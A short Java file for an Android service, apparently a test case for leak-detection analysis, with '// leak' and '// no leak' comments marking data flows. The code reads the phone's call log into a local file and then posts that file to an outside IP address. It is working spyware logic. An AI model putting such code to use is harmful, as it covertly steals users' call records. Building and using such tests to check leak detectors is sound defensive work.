package spy;

import android.app.Service;
import android.content.Intent;
import android.database.Cursor;
import android.net.Uri;
import android.os.IBinder;
import java.io.BufferedReader;
import java.io.File;
import java.io.FileInputStream;
import java.io.FileOutputStream;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

/** The call log is kept in a file first, and the file goes out later. */
public class FileCarrier extends Service {
    @Override
    public void onCreate() {
        try {
            FileOutputStream out = new FileOutputStream(new File(getFilesDir(), "calls.txt"));
            Cursor cursor = getContentResolver().query(Uri.parse("content://call_log/calls"), null, null, null, null);
            if (cursor.moveToFirst()) {
                do {
                    out.write((cursor.getString(0) + "\n").getBytes()); // leak
                } while (cursor.moveToNext());
            }
            out.close();
        } catch (Exception ignored) {
        }
    }

    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL("http://203.0.113.7/file").openConnection();
            OutputStream out = connection.getOutputStream();
            FileInputStream in = new FileInputStream(new File(getFilesDir(), "calls.txt"));
            byte[] buffer = new byte[1024];
            int count;
            while ((count = in.read(buffer)) > 0) out.write(buffer, 0, count); // leak
            BufferedReader other = new BufferedReader(new InputStreamReader(new FileInputStream(new File(getFilesDir(), "other.txt"))));
            out.write(other.readLine().getBytes()); // no leak
        } catch (Exception ignored) {
        }
        return 1;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
